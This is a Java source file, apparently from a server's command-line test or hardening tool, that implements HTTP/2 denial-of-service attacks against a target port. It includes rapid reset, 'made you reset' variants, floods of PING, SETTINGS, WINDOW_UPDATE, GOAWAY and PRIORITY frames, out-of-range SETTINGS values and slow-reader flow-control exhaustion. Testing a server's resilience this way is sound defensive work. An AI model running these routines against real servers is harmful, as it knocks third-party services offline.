package io.ennead.cli.attack;

import static io.ennead.cli.attack.RawHttp2.ACK;
import static io.ennead.cli.attack.RawHttp2.DATA;
import static io.ennead.cli.attack.RawHttp2.END_HEADERS;
import static io.ennead.cli.attack.RawHttp2.END_STREAM;
import static io.ennead.cli.attack.RawHttp2.GOAWAY;
import static io.ennead.cli.attack.RawHttp2.HEADERS;
import static io.ennead.cli.attack.RawHttp2.PING;
import static io.ennead.cli.attack.RawHttp2.PRIORITY;
import static io.ennead.cli.attack.RawHttp2.PUSH_PROMISE;
import static io.ennead.cli.attack.RawHttp2.RST_STREAM;
import static io.ennead.cli.attack.RawHttp2.SETTINGS;
import static io.ennead.cli.attack.RawHttp2.WINDOW_UPDATE;
import static io.ennead.cli.attack.RawHttp2.number;
import static io.ennead.cli.attack.RawHttp2.settings;

import io.ennead.cli.attack.Attack.Victim;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;

/** Attacks by streams, settings and flow control. */
final class StreamAttacks {
  private static final int CANCEL = 8;
  private static final int INITIAL_WINDOW_SIZE = 4;

  /** Of SETTINGS: what no sane client says. */
  private static final List<long[]> ABSURD =
      List.of(
          new long[] {1, 0xffff_ffffL}, // header table of 4 GiB
          new long[] {1, 0},
          new long[] {2, 7}, // ENABLE_PUSH is 0 or 1
          new long[] {3, 0}, // no stream
          new long[] {INITIAL_WINDOW_SIZE, 0xffff_ffffL}, // above 2^31 - 1
          new long[] {INITIAL_WINDOW_SIZE, 0x7fff_ffffL},
          new long[] {5, 0}, // frames of no byte
          new long[] {5, 0xff_ffffL},
          new long[] {6, 0}, // no header may be sent back
          new long[] {6, 1, 1, 0, INITIAL_WINDOW_SIZE, 1},
          new long[] {0xffff, 1});

  private StreamAttacks() {}

  static Stream<Attack> all() {
    return Stream.of(
        attack("rapid reset", v -> eachStream(v, 30, StreamAttacks::requestAndReset)),
        attack("rapid reset of headers", v -> eachStream(v, 300, StreamAttacks::startAndReset)),
        attack("made you reset by window", v -> eachStream(v, 30, StreamAttacks::zeroWindow)),
        attack("made you reset by overflow", v -> eachStream(v, 30, StreamAttacks::overflow)),
        attack("made you reset by data", v -> eachStream(v, 30, StreamAttacks::dataAfterEnd)),
        attack("made you reset by priority", v -> eachStream(v, 30, StreamAttacks::ownParent)),
        attack("streams left open", v -> eachStream(v, 100, StreamAttacks::startOnly)),
        attack("stream ids out of order", StreamAttacks::badIds),
        attack("ping flood", v -> flood(v, 2000, PING, 0, new byte[8])),
        attack("ping answers flood", v -> flood(v, 2000, PING, ACK, new byte[8])),
        attack("settings flood", v -> flood(v, 500, SETTINGS, 0, settings(4, 1 << 16))),
        attack("settings answers flood", v -> flood(v, 2000, SETTINGS, ACK, new byte[0])),
        attack("settings of a wrong length", v -> flood(v, 1, SETTINGS, 0, new byte[5])),
        attack("window update flood", v -> flood(v, 2000, WINDOW_UPDATE, 0, number(1))),
        attack("window overflow", v -> flood(v, 5, WINDOW_UPDATE, 0, number(0x7fff_ffff))),
        attack("go away flood", v -> flood(v, 2000, GOAWAY, 0, new byte[64])),
        attack("unknown frame flood", v -> flood(v, 2000, 0xbe, 0xff, new byte[100])),
        attack("push promise", v -> flood(v, 10, PUSH_PROMISE, END_HEADERS, new byte[16])),
        attack("priority flood", StreamAttacks::priorities),
        attack("empty data flood", StreamAttacks::emptyData),
        attack("absurd settings", StreamAttacks::absurdSettings),
        attack("no window, nothing read", v -> slowReader(v, 0)),
        attack("window of one byte, nothing read", v -> slowReader(v, 1)),
        attack("wide window, nothing read", v -> slowReader(v, 0x7fff_ffff)));
  }

  private static Attack attack(String name, Function<Victim, AutoCloseable> a) {
    return new Attack(name, a);
  }

  /** A stream of a connection. */
  private record OpenStream(RawHttp2 http2, int id, Victim victim) {
    boolean request() {
      return http2.request(id, victim.method(), victim.message());
    }
  }

  private static RawHttp2 eachStream(Victim victim, int streams, Consumer<OpenStream> act) {
    RawHttp2 http2 = RawHttp2.open(victim.port());
    for (int i = 0; i < streams && http2.socket().open(); i++) {
      act.accept(new OpenStream(http2, 2 * i + 1, victim));
    }
    return http2;
  }

  private static void requestAndReset(OpenStream stream) {
    stream.request();
    stream.http2().frame(RST_STREAM, 0, stream.id(), number(CANCEL));
  }

  private static void startAndReset(OpenStream stream) {
    startOnly(stream);
    stream.http2().frame(RST_STREAM, 0, stream.id(), number(CANCEL));
  }

  private static void startOnly(OpenStream stream) {
    stream.http2().start(stream.id(), stream.victim().method());
  }

  private static void zeroWindow(OpenStream stream) {
    stream.request();
    stream.http2().frame(WINDOW_UPDATE, 0, stream.id(), number(0));
  }

  private static void overflow(OpenStream stream) {
    stream.request();
    stream.http2().frame(WINDOW_UPDATE, 0, stream.id(), number(0x7fff_ffff));
  }

  private static void dataAfterEnd(OpenStream stream) {
    stream.request();
    stream.http2().frame(DATA, END_STREAM, stream.id(), new byte[10]);
  }

  private static void ownParent(OpenStream stream) {
    stream.request();
    stream.http2().frame(PRIORITY, 0, stream.id(), priority(stream.id()));
  }

  private static byte[] priority(int parent) {
    return ByteBuffer.allocate(5).putInt(parent).put((byte) 9).array();
  }

  private static RawHttp2 badIds(Victim victim) {
    RawHttp2 http2 = RawHttp2.open(victim.port());
    for (int id : new int[] {5, 3, 2, 0, 0x7fff_ffff, -1, 5}) {
      http2.frame(HEADERS, END_HEADERS | END_STREAM, id, http2.call(victim.method()));
      http2.frame(RST_STREAM, 0, id + 2, number(CANCEL));
    }
    return http2;
  }

  private static RawHttp2 flood(Victim victim, int times, int type, int flags, byte[] payload) {
    RawHttp2 http2 = RawHttp2.open(victim.port());
    http2.flood(times, type, flags, 0, payload);
    return http2;
  }

  /** A tree of streams that never exist, each the parent of the next. */
  private static RawHttp2 priorities(Victim victim) {
    RawHttp2 http2 = RawHttp2.open(victim.port());
    for (int i = 0; i < 2000; i++) {
      http2.frame(PRIORITY, 0, 2 * i + 3, priority(2 * i + 1));
    }
    return http2;
  }

  private static RawHttp2 emptyData(Victim victim) {
    RawHttp2 http2 = RawHttp2.open(victim.port());
    http2.start(1, victim.method());
    http2.flood(2000, DATA, 0, 1, new byte[0]);
    return http2;
  }

  /** A connection for each of the settings, of which the last stays open. */
  private static RawHttp2 absurdSettings(Victim victim) {
    RawHttp2 last = RawHttp2.open(victim.port());
    for (long[] pairs : ABSURD) {
      last.close();
      last = RawHttp2.open(victim.port(), pairs);
      last.request(1, victim.method(), victim.message());
      last.frame(SETTINGS, 0, 0, settings(pairs));
    }
    return last;
  }

  /** Asks for two answers and reads none of them: all of them fit the queue of the router. */
  private static RawHttp2 slowReader(Victim victim, long window) {
    RawHttp2 http2 = RawHttp2.open(victim.port(), INITIAL_WINDOW_SIZE, window);
    http2.socket().stopReading();
    for (int i = 0; i < 2; i++) {
      http2.request(2 * i + 1, victim.method(), victim.message());
    }
    return http2;
  }
}
